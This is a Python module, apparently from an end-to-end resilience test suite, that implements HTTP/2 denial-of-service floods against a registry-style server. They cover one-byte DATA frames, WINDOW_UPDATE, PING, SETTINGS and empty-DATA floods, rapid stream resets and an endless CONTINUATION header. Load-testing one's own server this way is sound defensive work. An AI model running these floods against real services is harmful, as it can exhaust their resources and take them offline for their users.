"""Frames of HTTP/2 that cost more than they carry."""

from __future__ import annotations

from collections.abc import Callable

from moorage_e2e.attacks import http2
from moorage_e2e.attacks.http2 import Http2
from moorage_e2e.attacks.target import Target

STREAMS = 100


def one_byte(target: Target) -> str:
    """Windows filled with DATA frames of one byte each, without a password."""
    frames, ended = 0, 0
    connections: list[http2.Http2] = []
    while target.goes_on():
        while len(connections) < 4:
            connections.append(http2.Http2(target))
            for stream in range(1, 2 * STREAMS, 2):
                connections[-1].open(stream, "POST", "/v2/attack/blobs/uploads/?digest=none")
        for connection in connections:
            connection.look()
            for stream in list(connection.windows):
                if connection.data(stream, [b"x"] * 4096):
                    frames += 4096
        gone = [connection for connection in connections if connection.ended or connection.broken]
        for connection in gone:
            connection.close()
        ended += len(gone)
        connections = [connection for connection in connections if connection not in gone]
        target.rest(0.001)
    for connection in connections:
        connection.close()
    return f"{frames} frames, {ended} connections were ended"


def _flood(target: Target, prepare: Callable[[Http2], object], piece: Callable[[int], bytes]) -> str:
    """The same frames on connection after connection, until each is ended."""
    sent, ended, calm = 0, 0, 0
    while target.goes_on():
        connection = http2.Http2(target)
        prepare(connection)
        number = 0
        while target.goes_on() and connection.send(piece(number)):
            sent += len(piece(number))
            number += 1
            connection.look()
            if connection.error is not None:
                break
        connection.look(0.2)
        ended += connection.ended or connection.broken or connection.error is not None
        calm += connection.error == 11
        connection.close()
    return f"{sent >> 10} KiB, {ended} connections were ended, {calm} with ENHANCE_YOUR_CALM"


def _begun(connection: Http2) -> None:
    connection.open(1, "POST", "/v2/attack/blobs/uploads/")


def window_updates(target: Target) -> str:
    return _flood(target, _begun, lambda _: http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000)


def pings(target: Target) -> str:
    return _flood(target, _begun, lambda _: http2.frame(http2.PING, 0, 0, bytes(8)) * 1000)


def settings(target: Target) -> str:
    return _flood(target, _begun, lambda _: http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\0\1\0") * 1000)


def empty_data(target: Target) -> str:
    return _flood(target, _begun, lambda _: http2.frame(http2.DATA, 0, 1) * 1000)


def resets(target: Target) -> str:
    """Requests that are given up at once."""

    def piece(number: int) -> bytes:
        first = 3 + number * 200
        return b"".join(
            http2.request(stream, "GET", "/v2/attack/tags/list", end=True)
            + http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 200, 2)
        )

    return _flood(target, lambda _: None, piece)


def continuations(target: Target) -> str:
    """One head that never ends."""
    start = http2.frame(http2.HEADERS, 0, 1, http2.head("GET", "/v2/"))
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.head("GET", "/v2/", {"x": "y" * 100})[-50:]) * 100
    return _flood(target, lambda connection: connection.send(start), lambda _: more)
